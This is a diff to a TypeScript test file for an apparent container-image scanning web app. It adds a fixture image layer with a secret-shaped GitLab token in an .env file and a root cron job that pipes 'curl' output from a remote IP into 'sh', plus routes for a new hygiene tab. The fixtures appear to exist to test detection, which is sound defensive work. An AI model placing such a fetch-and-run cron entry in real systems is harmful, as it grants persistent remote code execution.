@@ -30,7 +30,11 @@ async function fill(server: TestServer): Promise<void> {
   };
   const app = {
     instruction: 'RUN /bin/sh -c npm ci --omit=dev # buildkit',
-    files: [{ path: 'app/server.js', text: 'x'.repeat(90_000) }],
+    files: [
+      { path: 'app/server.js', text: 'x'.repeat(90_000) },
+      { path: 'app/.env', text: `GITLAB_TOKEN=${['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-')}\n` },
+      { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
+    ],
   };
   await pushImage(server, { repository: 'shop/storefront', tag: '4.8.1', layers: [base], config: { User: 'node' } });
   await pushImage(server, {
@@ -141,6 +145,8 @@ const pages: readonly (readonly [name: string, path: string])[] = [
   ['image-print', '/r/shop/storefront:4.8.2'],
   ['findings', `${big}?tab=findings`],
   ['findings-fixable', '/r/shop/storefront:4.8.2?tab=findings&fixable=1'],
+  ['hygiene', '/r/shop/storefront:4.8.2?tab=hygiene'],
+  ['hygiene-debian', `${big}?tab=hygiene`],
   ['packages', `${big}?tab=packages`],
   ['layers', '/r/shop/storefront:4.8.2?tab=layers&layer=1'],
   ['configuration', '/r/shop/storefront:4.8.2?tab=configuration'],
